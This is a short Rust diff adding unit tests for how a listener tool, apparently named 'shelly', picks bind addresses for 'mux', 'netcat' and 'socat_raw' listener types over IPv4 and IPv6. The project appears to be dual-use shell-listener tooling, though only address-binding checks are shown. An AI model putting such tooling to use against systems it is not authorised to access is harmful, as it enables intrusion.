+            listen_host(listener, &endpoints(bind, advertise), token)
+        };
+        // shelly's own listeners keep bind_tcp's fallback
+        assert_eq!(host("mux", "::", "10.0.0.1", None), ("::".to_string(), false));
+        assert_eq!(host("netcat", "::", "10.0.0.1", Some("t0k3n")), ("::".to_string(), false));
+        // nc and socat bind exactly
+        assert_eq!(host("netcat", "::", "10.0.0.1", None), ("0.0.0.0".to_string(), true));
+        assert_eq!(host("netcat", "::", "fd00::1", None), ("::".to_string(), true));
+        assert_eq!(host("socat_raw", "::", "fd00::1", None), ("0.0.0.0".to_string(), true));
+        assert_eq!(host("socat_raw", "10.0.0.2", "10.0.0.1", None), ("10.0.0.2".to_string(), true));
+    }
+}